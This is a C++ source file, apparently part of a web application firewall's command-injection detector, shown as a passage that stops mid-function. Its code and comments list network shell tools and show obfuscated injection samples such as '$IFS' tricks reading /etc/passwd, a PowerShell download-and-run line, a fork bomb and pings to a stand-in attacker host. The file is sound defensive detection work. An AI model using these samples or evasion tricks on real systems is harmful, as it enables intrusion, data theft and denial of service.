#include "engine/detect/command_injection.hpp"

#include <algorithm>
#include <array>

#include "engine/detect/prefilter.hpp"
#include "engine/detect/text.hpp"

namespace waf::engine {
namespace {

using text::is_alpha;
using text::is_digit;
using text::is_space;
using text::lower;
using command_injection::kPrefixPrograms;
using command_injection::kPrograms;

// Programs that are also ordinary words; they need a shell-looking argument, not just any word.
constexpr std::string_view kWordPrograms[] = {"python", "python2", "python3", "perl", "ruby", "php", "bash", "ssh",
                                              "telnet", "ftp", "git", "node", "npm", "docker", "kubectl", "pip", "gem", "apt", "vim", "vi",
                                              "openssl", "composer", "iptables", "tcpdump", "java", "lua",
                                              "at", "cd", "comm", "file", "make", "mount", "screen", "service", "strings",
                                              "tee", "zip", "start", "start-process", "cat", "dir", "echo", "env", "eval", "exec", "expr", "fetch",
                                              "find", "head", "kill", "less", "more", "net", "ping", "set",
                                              "sleep", "tail", "timeout", "touch", "type", "ver", "id",
                                              "date", "top", "trap", "perf", "pipx", "ex", "ip", "hostname", "host"};

template <std::size_t N>
bool in(const std::string_view (&list)[N], std::string_view w) noexcept {
  for (auto x : list) {
    if (x == w) return true;
  }
  return false;
}

static_assert(std::is_sorted(std::begin(kPrograms), std::end(kPrograms)), "kPrograms must stay sorted");
// kPrograms as a hash table: one hash and about one comparison per word, where a binary search
// costs eight comparisons, and every separator in a long text asks about the word after it.
constexpr auto kProgramTable = make_word_table<512>(kPrograms);
static_assert(std::size(kPrograms) < kProgramTable.size() / 2, "the program table needs free slots");

bool listed(std::string_view w) noexcept {
  constexpr std::size_t kMask = kProgramTable.size() - 1;
  for (std::size_t at = word_hash(w) & kMask; !kProgramTable[at].empty(); at = (at + 1) & kMask) {
    if (kProgramTable[at] == w) return true;
  }
  return w.starts_with("ansible-") || w.starts_with("chef-");
}

// The program a word names, without a version suffix: "python3.10" and "gcc10.1" run python and
// gcc. A suffix needs a dot, so "top10" stays a word. cmd.exe finds "powershell.exe" and
// "whoami.exe" by the same names as "powershell" and "whoami".
std::string_view program_name(std::string_view w) noexcept {
  if (listed(w)) return w;
  for (std::string_view ext : {".exe", ".com"}) {
    if (w.size() > ext.size() && w.ends_with(ext) && listed(w.substr(0, w.size() - ext.size())))
      return w.substr(0, w.size() - ext.size());
  }
  std::size_t end = w.size();
  while (end > 0 && (is_digit(w[end - 1]) || w[end - 1] == '.')) --end;
  const std::string_view suffix = w.substr(end);
  if (end == 0 || end == w.size() || suffix.find('.') == std::string_view::npos || !is_digit(suffix.back()))
    return {};
  return listed(w.substr(0, end)) ? w.substr(0, end) : std::string_view{};
}

bool program(std::string_view w) noexcept { return !program_name(w).empty(); }

// A hyphenated program name no sentence uses as a word ("ansible-vault", "apt-get"); a plain
// one like "ifconfig" also opens sentences ("ifconfig shows nothing").
bool distinctive(std::string_view w, bool word_program) noexcept {
  return !word_program && w.find('-') != std::string_view::npos;
}

// An option within the next `words` words of a command: "ansible all -m ping", "pip install -r x".
// Single-dash options are one or two letters, so "top -rated" in prose is none.
bool option_soon(std::string_view s, std::size_t i, int max_words) noexcept {
  for (int words = 0; words <= max_words && i < s.size(); ++words) {
    while (i < s.size() && (s[i] == ' ' || s[i] == '\t')) ++i;
    if (i >= s.size()) return false;
    const std::size_t begin = i;
    while (i < s.size() && !is_space(s[i]) && s[i] != ';' && s[i] != '|' && s[i] != '&') ++i;
    const std::string_view tok = s.substr(begin, i - begin);
    if (tok.size() >= 4 && tok.starts_with("--") && is_alpha(tok[2])) return true;
    if (tok.size() >= 2 && tok.size() <= 3 && tok[0] == '-' && is_alpha(tok[1]) &&
        (tok.size() == 2 || is_alpha(tok[2])))
      return true;
    if (i < s.size() && !is_space(s[i])) return false;  // the command ends
  }
  return false;
}

constexpr std::size_t kMaxWord = 32;

// Reads the command word at `i` as the shell would after quote removal; returns its end.
// "${IFS}", "$IFS", "$@", "$*" and "$9" disappear; "c'a't", "c\at", "\"cat\"" become "cat";
// a path "/usr/bin/cat" becomes "cat"; empty substitutions vanish ("pi$()ng", "ping``").
// `obfuscated` says whether anything vanished between two letters of the word: no one types
// "w'h'oami" or "pi``ng" by accident.
std::size_t read_word(std::string_view s, std::size_t i, std::array<char, kMaxWord>& w, std::size_t& n,
                      bool* obfuscated = nullptr) noexcept {
  n = 0;
  bool pending = false;  // something vanished after the first letter
  bool hidden = false;   // ... and a letter followed it
  std::size_t single = 0, dbl = 0;
  while (i < s.size()) {
    const char c = s[i];
    // Letters are most bytes of most words: take them before testing for shell syntax.
    if (is_alpha(c) || is_digit(c) || c == '_' || c == '-' || c == '.') {
      if (n < w.size()) w[n++] = lower(c);
      hidden = hidden || pending;
      ++i;
      continue;
    }
    // cmd.exe drops a '^' before any character ("w^h^oami"), as sh drops quotes and '\\'.
    if (c == '\'' || c == '"' || c == '\\' || c == '^') {
      pending = pending || n > 0;
      single += c == '\'';
      dbl += c == '"';
      ++i;
      continue;
    }
    const bool empty_substitution =
        i + 1 < s.size() && ((c == '`' && s[i + 1] == '`') ||
                             ((c == '$' || c == '<' || c == '>') && s[i + 1] == '(' && i + 2 < s.size() && s[i + 2] == ')'));
    if (empty_substitution) {
      // An empty substitution glued to a name ("ping``", "pi$()ng") is never an accident.
      hidden = hidden || n > 0;
      i += s[i] == '`' ? std::size_t{2} : std::size_t{3};
      continue;
    }
    if (c == '$' && i + 1 < s.size() && (s[i + 1] == '\'' || s[i + 1] == '"')) {  // $'...' quoting
      ++i;
      continue;
    }
    if (c == '$' && i + 1 < s.size() &&
        (s[i + 1] == '@' || s[i + 1] == '*' || s[i + 1] == '?' || s[i + 1] == '$' || s[i + 1] == '!' ||
         s[i + 1] == '#' || s[i + 1] == '-' || s[i + 1] == '_' || is_digit(s[i + 1]))) {
      i += 2;
      continue;
    }
    // "cat$IFS/etc/passwd", "cat${IFS%??}/etc/passwd": the field separator ends the word.
    if (c == '$' && (s.compare(i, 4, "$IFS") == 0 || s.compare(i, 5, "${IFS") == 0)) break;
    // "c$u\at", "cat$u", "${u}w${u}hoami": an unset variable inside a word expands to nothing.
    if (c == '$' && n > 0 && i + 1 < s.size() && is_alpha(s[i + 1])) {
      pending = true;
      i += 2;
      while (i < s.size() && text::is_word(s[i])) ++i;
      continue;
    }
    if (c == '$' && i + 2 < s.size() && s[i + 1] == '{' && is_alpha(s[i + 2])) {
      std::size_t close = i + 2;
      while (close < s.size() && text::is_word(s[close])) ++close;
      if (close >= s.size() || s[close] != '}') break;
      pending = pending || n > 0;
      hidden = hidden || n > 0;
      i = close + 1;
      continue;
    }
    if (c == '/') {  // keep only the last path component
      n = 0;
      ++i;
      continue;
    }
    break;
  }
  // Only a letter after the trick makes it one: "'cat'" and "cat\" are just quoted. Shell quotes
  // pair up; a lone apostrophe is English ("I'd").
  if (obfuscated != nullptr) *obfuscated = hidden && single % 2 == 0 && dbl % 2 == 0;
  return i;
}

// Blank as the shell sees it, including the ${IFS} trick, brace/paren grouping and a "$name "
// before the command word ("; $a cat x"): an unset variable expands to nothing.
std::size_t skip_blank(std::string_view s, std::size_t i) noexcept {
  while (i < s.size()) {
    if (is_space(s[i]) || s[i] == '{' || s[i] == '(' || s[i] == '\t') {
      ++i;
    } else if (s.compare(i, 5, "${IFS") == 0 && s.find('}', i) != std::string_view::npos) {
      i = s.find('}', i) + 1;  // "${IFS}", "${IFS%??}"
    } else if (s.compare(i, 4, "$IFS") == 0) {
      i += 4;
    } else if (s[i] == '$' && i + 1 < s.size() && is_alpha(s[i + 1])) {
      std::size_t end = i + 1;
      while (end < s.size() && text::is_word(s[end])) ++end;
      if (end >= s.size() || !is_space(s[end])) break;
      i = end;
    } else {
      break;
    }
  }
  return i;
}

// "; ping attacker.example", "| nslookup x.attacker.example #": a host name as the last word of a
// network program's command line, where a sentence goes on ("; ping google.com to check").
bool host_argument(std::string_view s, std::size_t i, std::string_view program) noexcept {
  static constexpr std::string_view kNetwork[] = {"ping", "nslookup", "dig", "curl", "wget", "nc",
                                                  "ncat", "telnet", "ssh", "ftp", "traceroute", "tracert", "whois"};
  if (!in(kNetwork, program)) return false;
  std::size_t j = i;
  std::size_t dots = 0;
  while (j < s.size() && (text::is_word(s[j]) || s[j] == '-' || s[j] == '.')) dots += s[j++] == '.';
  if (dots == 0 || !is_alpha(s[j - 1])) return false;
  while (j < s.size() && (s[j] == ' ' || s[j] == '\t')) ++j;
  return j >= s.size() || std::string_view(";|&#\n`)").find(s[j]) != std::string_view::npos;
}

// ";echo xyz", "| echo xyz &": an injection echoing a marker to see it come back. One word ends
// the command line, glued to the separator or closing the value with another separator;
// "ideas; echo chamber; filter bubble" is a list.
bool echo_marker(std::string_view s, std::size_t i, std::size_t end) noexcept {
  std::size_t a = end;
  while (a < s.size() && s[a] == ' ') ++a;
  std::size_t e = a;
  while (e < s.size() && (text::is_word(s[e]) || s[e] == '-')) ++e;
  if (e == a || a == end) return false;
  std::size_t k = e;
  while (k < s.size() && s[k] == ' ') ++k;
  const bool closes = k < s.size() && std::string_view(";|&\n#").find(s[k]) != std::string_view::npos &&
                      s.find_first_not_of(" \t\r\n;|&#'\"", k) == std::string_view::npos;
  return closes || (k >= s.size() && i < s.size() && !is_space(s[i]));
}

// What follows a program name decides whether this is a command line.
// `tight`: the program directly follows a separator (";whoami x"), which prose never writes;
// `separated`: it follows one at all.
bool shell_argument(std::string_view s, std::size_t i, bool word_program, std::string_view program,
                    bool tight, bool separated) noexcept {
  const std::size_t start = i;
  if (s.compare(i, 5, "${IFS") == 0 || s.compare(i, 4, "$IFS") == 0) return true;  // "cat${IFS}/etc/passwd"
  // '+' is a blank in a form-encoded query the decoder left alone ("cat+/etc/passwd").
  while (i < s.size() && (s[i] == ' ' || s[i] == '\t' || (s[i] == '+' && i + 1 < s.size() && s[i + 1] == '/'))) ++i;
  if (i >= s.size()) return true;  // "; id"
  const char c = s[i];
  // "; id #": a comment ends the command line.
  if (c == '#' && i > start && (i + 1 >= s.size() || is_space(s[i + 1]))) return true;
  // PowerShell takes anything as its script ("& powershell IEX(...)"), but not an assignment
  // ("powershell = ...") or a label.
  if (i > start && (program == "powershell" || program == "pwsh") && c != '=' && c != ':') return true;
  // "net user", "net localgroup administrators": the Windows account and share commands.
  if (i > start && (program == "net" || program == "net1")) {
    for (std::string_view sub : {"user", "localgroup", "group", "view", "share", "use", "session", "accounts"}) {
      if (text::istarts_with(s.substr(i), sub) && (i + sub.size() >= s.size() || !text::is_word(s[i + sub.size()])))
        return true;
    }
  }
  if (c == ';' || c == '|' || c == '&' || c == '\n' || c == '>' || c == '<' || c == ')' || c == '}')
    return i > start || !is_alpha(c);
  if (i == start) return false;  // "cats", "identity": the word continues
  // An option is "-x"/"--long"/"+x"; "perl - Larry Wall's" is a dash in prose.
  if ((c == '-' || c == '+') && i + 1 < s.size() &&
      (text::is_word(s[i + 1]) || (s[i + 1] == '-' && i + 2 < s.size() && text::is_word(s[i + 2]))))
    return true;
  // "type %SYSTEMROOT%\win.ini": a cmd.exe variable.
  if (c == '%' && i + 1 < s.size() && is_alpha(s[i + 1]) && s.find('%', i + 1) != std::string_view::npos) return true;
  if (c == '/' || c == '~' || c == '$' || c == '\\' || c == '\'' || c == '"') return true;
  // "iex (iwr http://x/a.ps1)": a subexpression as the argument of a name that is no English word.
  if (c == '(' && !word_program) return true;
  if (c == '.' && i + 1 < s.size() && (s[i + 1] == '/' || s[i + 1] == '.')) return true;
  if (is_alpha(c) && i + 2 < s.size() && s[i + 1] == ':' && (s[i + 2] == '\\' || s[i + 2] == '/'))
    return true;  // "c:\windows"
  if (is_digit(c)) {
    // "sleep 5", "ping 10.0.0.1", "nc 1.2.3.4 4444": numbers are arguments of a few programs
    // ("GCC 3.3 provides", "Python 3.11 for Debian" are versions in prose).
    static constexpr std::string_view kNumeric[] = {"sleep", "ping", "nc", "ncat", "netcat", "timeout", "kill",
                                                    "telnet", "usleep", "id", "ls", "whoami", "uname",
                                                    "chmod", "killall", "pkill"};
    if (!in(kNumeric, program)) return false;
    std::size_t j = i;
    while (j < s.size() && (is_digit(s[j]) || s[j] == '.' || s[j] == ':')) ++j;
    while (j < s.size() && s[j] == ' ') ++j;
    return j >= s.size() || !is_alpha(s[j]) || !word_program;
  }
  if (text::istarts_with(s.substr(i), "http://") || text::istarts_with(s.substr(i), "https://")) return true;
  if (i > start && host_argument(s, i, program)) return true;
  // Glued to a separator, a program name that is no English word takes any argument
  // (";ansible-vault decrypt x"); "| grep nginx lists ..." in a post keeps its blank.
  if (!word_program && tight && is_alpha(c)) return true;
  // "& wmic process call create x", "| wmic useraccount get name": WMI's aliases after a separator.
  if (separated && program == "wmic") {
    for (std::string_view alias : {"process", "os", "useraccount", "service", "nicconfig", "product", "qfe", "startup",
                                   "share", "logicaldisk", "computersystem", "group", "bios", "environment"}) {
      if (text::istarts_with(s.substr(i), alias) && (i + alias.size() >= s.size() || !text::is_word(s[i + alias.size()])))
        return true;
    }
  }
  // A file name with an extension, "x.sh", "a.txt"; any program with a Windows executable.
  std::size_t j = i;
  while (j < s.size() && (text::is_word(s[j]) || s[j] == '-')) ++j;
  for (std::string_view ext : {".exe", ".bat", ".ps1", ".vbs", ".hta"}) {
    if (text::istarts_with(s.substr(j), ext) && (j + ext.size() >= s.size() || !text::is_word(s[j + ext.size()])))
      return true;
  }
  if (!word_program && j < s.size() && s[j] == '.' && j + 1 < s.size() && is_alpha(s[j + 1])) return true;
  return false;
}

// "$c $a$b" after "a=/etc&&b=/passwd&&c=cat": the command word is a variable the value itself
// assigned at a command boundary, a way to spell a program no filter sees.
bool variable_command(std::string_view s, std::size_t i) noexcept {
  while (i < s.size() && (s[i] == ' ' || s[i] == '\t')) ++i;
  if (i + 1 >= s.size() || s[i] != '$') return false;
  std::size_t b = i + 1 + (s[i + 1] == '{' ? 1 : 0);
  std::size_t e = b;
  while (e < s.size() && text::is_word(s[e])) ++e;
  if (e == b || e - b > kMaxWord) return false;
  const std::string_view name = s.substr(b, e - b);
  for (std::size_t at = s.find(name); at != std::string_view::npos && at < i; at = s.find(name, at + 1)) {
    const bool boundary = at == 0 || s[at - 1] == ';' || s[at - 1] == '&' || s[at - 1] == '|' ||
                          s[at - 1] == '\n' || s[at - 1] == ' ';
    if (boundary && at + name.size() < s.size() && s[at + name.size()] == '=') return true;
  }
  return false;
}

// "alias x=y", "alias -p a=b", "alias +g+ a=b": a definition follows the options.
bool alias_definition(std::string_view s, std::size_t i) noexcept {
  while (i < s.size()) {
    while (i < s.size() && (s[i] == ' ' || s[i] == '\t')) ++i;
    const std::size_t begin = i;
    while (i < s.size() && !is_space(s[i]) && s[i] != '=') ++i;
    if (i == begin) return false;
    if (s[begin] == '-' || s[begin] == '+') continue;  // an option
    return i < s.size() && s[i] == '=' && i - begin <= kMaxWord;
  }
  return false;
}

// A Markdown table row ("| id | name |") is not a pipeline: the line starts and ends with '|'.
bool table_row(std::string_view s, std::size_t at) noexcept {
  const std::size_t nl = s.rfind('\n', at);
  const std::size_t begin = nl == std::string_view::npos ? 0 : nl + 1;
  const std::size_t end = std::min(s.find('\n', at), s.size());
  const std::string_view line = s.substr(begin, end - begin);
  const std::size_t first = line.find_first_not_of(" \t");
  const std::size_t last = line.find_last_not_of(" \t\r");
  // A table has two cells or more ("| id | name |"); "|id|" and "||id||" are pipelines.
  return first != std::string_view::npos && line[first] == '|' && line[last] == '|' &&
         std::count(line.begin(), line.end(), '|') >= 3 && line.find("||") == std::string_view::npos &&
         text::find_any(line, ";&`$") == std::string_view::npos;
}

// A fork bomb: a shell function whose body pipes or backgrounds a call to itself
// (":(){ :|:& };:", "f(){ f & f; }", "test() { test | test & }"). Where the value defines a
// function, "name() {" must be followed by the name and '|' or '&' before the closing brace.
std::size_t fork_bomb(std::string_view s) noexcept {
  for (std::size_t at = s.find("()"); at != std::string_view::npos; at = s.find("()", at + 2)) {
    std::size_t b = at;
    while (b > 0 && is_space(s[b - 1])) --b;
    std::size_t name_start = b;
    while (name_start > 0 && (text::is_word(s[name_start - 1]) || s[name_start - 1] == ':')) --name_start;
    if (name_start == b) continue;
    const std::string_view name = s.substr(name_start, b - name_start);
    std::size_t k = at + 2;
    while (k < s.size() && is_space(s[k])) ++k;
    if (k >= s.size() || s[k] != '{') continue;
    const std::size_t close = s.find('}', k);
    const std::string_view fn_body = s.substr(k + 1, (close == std::string_view::npos ? s.size() : close) - k - 1);
    for (std::size_t call = fn_body.find(name); call != std::string_view::npos; call = fn_body.find(name, call + 1)) {
      std::size_t e = call + name.size();
      if (e < fn_body.size() && fn_body.compare(e, 2, "()") == 0) e += 2;
      while (e < fn_body.size() && is_space(fn_body[e])) ++e;
      if (e < fn_body.size() && (fn_body[e] == '|' || fn_body[e] == '&')) return name_start;
    }
  }
  return std::string_view::npos;
}

// cmd.exe words are case-insensitive and end at a blank (or, for IF's comparisons, at "==").
std::size_t skip_blanks(std::string_view v, std::size_t i) noexcept {
  while (i < v.size() && (v[i] == ' ' || v[i] == '\t')) ++i;
  return i;
}

std::size_t batch_word(std::string_view v, std::size_t i, std::string_view word) noexcept {
  if (!text::istarts_with(v.substr(i), word)) return std::string_view::npos;
  const std::size_t end = i + word.size();
  return end < v.size() && text::is_word(v[end]) ? std::string_view::npos : end;
}

// One IF operand: "%1", "\"%~1\"", "[%1]", "(AA)", "{}". A bracket must close within the operand,
// so "(a" of "if (a==b) return" is code, not cmd.exe.
std::size_t batch_operand(std::string_view v, std::size_t i) noexcept {
  const std::size_t begin = i;
  if (i < v.size() && (v[i] == '"' || v[i] == '\'')) {  // '...' is not cmd.exe's, but code quotes so
    const std::size_t close = v.find(v[i], i + 1);
    if (close == std::string_view::npos) return std::string_view::npos;
    i = close + 1;
  }
  while (i < v.size() && !is_space(v[i]) && v.compare(i, 2, "==") != 0) ++i;
  if (i == begin) return std::string_view::npos;
  const char open = v[begin];
  const char want = open == '(' ? ')' : open == '[' ? ']' : open == '{' ? '}' : 0;
  if (want != 0 && v[i - 1] != want) return std::string_view::npos;
  if (v[i - 1] == ':') return std::string_view::npos;  // "if a==b:" is Python
  // A call inside an operand ("_GLibCVersion(2,") is code; cmd.exe brackets only enclose one.
  const std::string_view inner = v.substr(begin + 1, i - begin - (want != 0 ? 2 : 1));
  if (text::find_any(inner, "()") != std::string_view::npos) return std::string_view::npos;
  return i;
}

// cmd.exe control flow opening the value: "for /f %%G in ('dir') do echo %%G",
// "if exist x.txt echo yes", "if /i not "%1"=="/?" goto help", "if %ERRORLEVEL% gtr 2 cmd".
// Prose has "for ... in ... do" but not with %variables; code has "if (a == b)" and "if a == b:".
bool batch_control(std::string_view s) noexcept {
  const std::size_t first = s.find_first_not_of(" \t&|;@");
  if (first == std::string_view::npos) return false;
  const std::string_view v = s.substr(first);
  if (std::size_t i = batch_word(v, 0, "for"); i != std::string_view::npos && i < v.size() && is_space(v[i])) {
    const std::size_t in_at = text::ifind(v, " in", i);
    if (in_at == std::string_view::npos) return false;
    // The loop variable is a word of its own that starts with '%' ("%G", "%%G", "%@"); "10%" is a share.
    const std::string_view head = v.substr(i, in_at - i);
    bool variable = false;
    for (std::size_t p = head.find('%'); p != std::string_view::npos && !variable; p = head.find('%', p + 1))
      variable = (p == 0 || is_space(head[p - 1])) && p + 1 < head.size() && !is_space(head[p + 1]);
    if (!variable) return false;
    std::size_t k = skip_blanks(v, in_at + 3);
    if (k >= v.size() || v[k] != '(') return false;
    const std::size_t close = v.find(')', k);
    if (close == std::string_view::npos) return false;
    const std::size_t body = batch_word(v, skip_blanks(v, close + 1), "do");
    return body != std::string_view::npos && skip_blanks(v, body) < v.size();
  }
  std::size_t i = batch_word(v, 0, "if");
  // "If x==y the ..." opens a sentence; cmd.exe scripts write "if" or "IF".
  if (i == std::string_view::npos || v.starts_with("If")) return false;
  // Python's condition ends in ':' ("if a == b:", "if x == ' ': y").
  const std::size_t last = v.find_last_not_of(" \t\r\n");
  if (v[last] == ':') return false;
  i = skip_blanks(v, i);
  if (const std::size_t e = batch_word(v, i, "/i"); e != std::string_view::npos) i = skip_blanks(v, e);
  if (const std::size_t e = batch_word(v, i, "not"); e != std::string_view::npos) i = skip_blanks(v, e);
  std::size_t after = std::string_view::npos;
  for (std::string_view test : {"exist", "defined", "errorlevel", "cmdextversion"}) {
    if (const std::size_t e = batch_word(v, i, test); e != std::string_view::npos && e < v.size() && is_space(v[e])) {
      after = batch_operand(v, skip_blanks(v, e));
      break;
    }
  }
  // "IF (2 GEQ 15) echo", "if not (2 equ 2) echo": a bracketed comparison with cmd.exe's word
  // operators, which no programming language has.
  if (after == std::string_view::npos && i < v.size() && v[i] == '(') {
    const std::size_t close = v.find(')', i);
    const std::string_view cond = v.substr(i + 1, close == std::string_view::npos ? 0 : close - i - 1);
    std::size_t k = skip_blanks(cond, 0);
    const std::size_t lhs = k;
    while (k < cond.size() && !is_space(cond[k])) ++k;
    const std::size_t op = skip_blanks(cond, k);
    for (std::string_view cmp : {"equ", "neq", "lss", "leq", "gtr", "geq"}) {
      const std::size_t e = batch_word(cond, op, cmp);
      if (k > lhs && e != std::string_view::npos && e < cond.size() && is_space(cond[e]) && skip_blanks(cond, e) < cond.size())
        after = close + 1;
    }
  }
  if (after == std::string_view::npos) {
    const std::size_t lhs = batch_operand(v, i);
    if (lhs == std::string_view::npos) return false;
    std::size_t op = skip_blanks(v, lhs);
    if (v.compare(op, 2, "==") == 0) {
      op += 2;
    } else {
      bool found = false;
      for (std::string_view cmp : {"equ", "neq", "lss", "leq", "gtr", "geq"}) {
        if (const std::size_t e = batch_word(v, op, cmp); e != std::string_view::npos) {
          op = e;
          found = true;
          break;
        }
      }
      if (!found) return false;
    }
    after = batch_operand(v, skip_blanks(v, op));
  }
  if (after == std::string_view::npos || after >= v.size() || !is_space(v[after])) return false;
  // The command it runs: anything but the "then"/"and"/"or" of an English or Lua condition, or
  // the ':' of a Python one.
  const std::size_t action = skip_blanks(v, after);
  if (action >= v.size() || v[action] == ':') return false;
  for (std::string_view word : {"then", "and", "or"}) {
    if (batch_word(v, action, word) != std::string_view::npos) return false;
  }
  return true;
}

// Shell glob matching (?, *, [a-z], [!x]) so "/bin/ca? /et*/pas[s]wd" is recognised as the
// files it expands to.
bool glob_match(std::string_view pattern, std::string_view name) noexcept {
  std::size_t p = 0, n = 0, star_p = std::string_view::npos, star_n = 0;
  while (n < name.size()) {
    if (p < pattern.size() && pattern[p] == '*') {
      star_p = p++;
      star_n = n;
      continue;
    }
    if (p < pattern.size() && pattern[p] == '[') {
      const std::size_t close = pattern.find(']', p + 1);
      if (close != std::string_view::npos) {
        bool negate = p + 1 < close && (pattern[p + 1] == '!' || pattern[p + 1] == '^');
        bool hit = false;
        for (std::size_t k = p + 1 + (negate ? 1 : 0); k < close; ++k) {
          if (k + 2 < close && pattern[k + 1] == '-') {
            hit = hit || (name[n] >= pattern[k] && name[n] <= pattern[k + 2]);
            k += 2;
          } else {
            hit = hit || pattern[k] == name[n];
          }
        }
        if (hit != negate) {
          p = close + 1;
          ++n;
          continue;
        }
      }
    } else if (p < pattern.size() && (pattern[p] == '?' || pattern[p] == name[n])) {
      ++p;
      ++n;
      continue;
    }
    if (star_p == std::string_view::npos) return false;
    p = star_p + 1;
    n = ++star_n;
  }
  while (p < pattern.size() && pattern[p] == '*') ++p;
  return p == pattern.size();
}

// A glob path whose every directory matches a system directory and whose last component matches
// a program or a file attackers read: "/???/c?t", "/usr/[a-z]in/bash", "/usr/bin/[u]name".
bool glob_program_path(std::string_view token) noexcept {
  static constexpr std::string_view kDirs[] = {"bin", "usr", "sbin", "etc", "local", "dev", "proc", "self", "tmp", "var", "lib"};
  static constexpr std::string_view kFiles[] = {"passwd", "shadow", "hosts", "group", "environ", "sudoers", "issue"};
  std::size_t components = 0;
  std::string_view last;
  for (std::size_t at = 1; at <= token.size();) {
    const std::size_t slash = std::min(token.find('/', at), token.size());
    const std::string_view part = token.substr(at, slash - at);
    at = slash + 1;
    if (part.empty()) return false;
    ++components;
    if (slash == token.size()) {
      last = part;
      break;
    }
    if (std::none_of(std::begin(kDirs), std::end(kDirs), [&](std::string_view d) { return glob_match(part, d); }))
      return false;
  }
  if (components < 2 || std::none_of(last.begin(), last.end(), [](char ch) { return is_alpha(ch); })) return false;
  const auto matches = [&](std::string_view name) { return name.size() >= 2 && glob_match(last, name); };
  return std::any_of(std::begin(kFiles), std::end(kFiles), matches) ||
         std::any_of(std::begin(kPrograms), std::end(kPrograms), matches);
}

// Bash brace expansion building a command word: "{,ifconfig}", "{id,}", "c{a,oun}t", "{l,-lh}s".
// An empty alternative or letters glued outside the braces mark it; "{id,name}" (a field list)
// has neither.
std::size_t brace_command(std::string_view s) noexcept {
  for (std::size_t open = s.find('{'); open != std::string_view::npos; open = s.find('{', open + 1)) {
    const std::size_t close = s.find('}', open);
    if (close == std::string_view::npos || close - open > 64) return std::string_view::npos;
    const std::string_view body = s.substr(open + 1, close - open - 1);
    if (body.find(',') == std::string_view::npos || text::find_any(body, " \t\n{") != std::string_view::npos) continue;
    std::size_t prefix = open;
    while (prefix > 0 && is_alpha(s[prefix - 1])) --prefix;
    std::size_t suffix = close + 1;
    while (suffix < s.size() && is_alpha(s[suffix])) ++suffix;
    // Brace expansion only builds a command where a command starts: "perl module for base{2,64}"
    // expands in a shell too, but not into something that runs.
    std::size_t before = prefix;
    while (before > 0 && (s[before - 1] == ' ' || s[before - 1] == '\t')) --before;
    if (before > 0 && std::string_view(";|&\n`(").find(s[before - 1]) == std::string_view::npos) continue;
    const bool glued = prefix < open || suffix > close + 1;
    const bool empty_alternative = body.front() == ',' || body.back() == ',' || body.find(",,") != std::string_view::npos;
    if (!glued && !empty_alternative) continue;
    for (std::size_t a = 0; a <= body.size();) {
      const std::size_t comma = std::min(body.find(',', a), body.size());
      std::array<char, kMaxWord * 2> joined{};
      std::size_t n = 0;
      for (const std::string_view piece : {s.substr(prefix, open - prefix), body.substr(a, comma - a),
                                           s.substr(close + 1, suffix - close - 1)}) {
        for (const char c : piece) {
          if (n < joined.size()) joined[n++] = c;
        }
      }
      a = comma + 1;
      std::array<char, kMaxWord> w{};
      std::size_t len = 0;
      read_word(std::string_view(joined.data(), n), 0, w, len);
      if (len > 0 && program(std::string_view(w.data(), len))) return prefix;
    }
  }
  return std::string_view::npos;
}

// A path token with glob characters that expands to a file attackers read or run.
std::size_t glob_path(std::string_view s) noexcept {
  static constexpr std::string_view kTargets[] = {"/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group",
                                                  "/bin/cat", "/bin/sh", "/bin/bash", "/bin/nc", "/usr/bin/id",
                                                  "/usr/bin/wget", "/usr/bin/curl", "/usr/bin/whoami",
                                                  "/proc/self/environ"};
  for (std::size_t at = s.find('/'); at != std::string_view::npos; at = s.find('/', at + 1)) {
    if (at > 0 && s[at - 1] != ' ' && s[at - 1] != ';' && s[at - 1] != '|' && s[at - 1] != '&' &&
        s[at - 1] != '=' && s[at - 1] != '(' && s[at - 1] != '`' && s[at - 1] != '+' && s[at - 1] != '{' &&
        s[at - 1] != ',')
      continue;
    std::size_t end = at;
    while (end < s.size() && !is_space(s[end]) && s[end] != ';' && s[end] != '|' && s[end] != '&' && s[end] != '+' &&
           s[end] != '\'' && s[end] != '"' && s[end] != ')' && s[end] != '`' && s[end] != ',' && s[end] != '}' &&
           end - at < 64)
      ++end;
    const std::string_view token = s.substr(at, end - at);
    // A real path pattern: two components and some literal letters ("/et*/passwd"), not "/* x */".
    const auto letters = std::count_if(token.begin(), token.end(), [](char ch) { return is_alpha(ch); });
    if (text::find_any(token, "?*[") == std::string_view::npos || std::count(token.begin(), token.end(), '/') < 2)
      continue;
    if (glob_program_path(token)) return at;
    for (auto target : kTargets) {
      if (letters >= 4 && glob_match(token, target)) return at;
    }
    at = end > at ? end - 1 : at;
  }
  return std::string_view::npos;
}

struct Hit {
  std::size_t at = 0;
  int score = 0;
  std::string_view rule;
};

// The bytes where the scan loop of CommandInjectionDetector::analyse() looks for a command:
// separators, substitutions and redirections.
constexpr std::array<bool, 256> kBoundaries = [] {
  std::array<bool, 256> table{};
  for (const char c : std::string_view(";\n|&`$<>")) table[static_cast<unsigned char>(c)] = true;
  return table;
}();

// Expansions only a shell performs, the probes of an injection that cannot yet name a program:
// the directory stack as the whole value ("~+", "~-1"), history references ("!-1!-2"), a
// parameter cut to one character ("${PATH:0:1}" is '/', "${x#{}}"), arithmetic, and output
// redirected into a system directory (">/tmp/x" as the value).
void shell_expansion(std::string_view s, Hit& best) noexcept {
  const auto digits_from = [s](std::size_t i) {
    while (i < s.size() && text::is_digit(s[i])) ++i;
    return i;
  };
  if (s.size() >= 2 && s[0] == '~' && (s[1] == '+' || s[1] == '-') && digits_from(2) == s.size()) {
    best = {0, 70, "directory stack expansion"};
    return;
  }
  if (s.starts_with("!-") && s.size() > 2) {
    std::size_t i = 0;
    while (i < s.size() && s.compare(i, 2, "!-") == 0 && i + 2 < s.size() && text::is_digit(s[i + 2])) i = digits_from(i + 2);
    if (i == s.size()) {
      best = {0, 70, "history expansion"};
      return;
    }
  }
  for (std::size_t at = s.find("${"); at != std::string_view::npos; at = s.find("${", at + 2)) {
    std::size_t k = at + 2;
    while (k < s.size() && text::is_word(s[k])) ++k;
    if (k == at + 2 || k + 1 >= s.size()) continue;
    // "${PATH:0:1}" is one character; "${x#{}}" and "${PATH#{}/}" strip a prefix to build a path
    // or probe. "${CI_COMMIT_SHA:0:8}" in a CI variable is a cut for people to read.
    const std::size_t close = s.find('}', k);
    if (close == std::string_view::npos || close == k) continue;
    const std::string_view op = s.substr(k, close - k);
    const bool one_char = op.size() >= 4 && op[0] == ':' && op.ends_with(":1") &&
                          op.substr(1, op.size() - 3).find_first_not_of("0123456789") == std::string_view::npos;
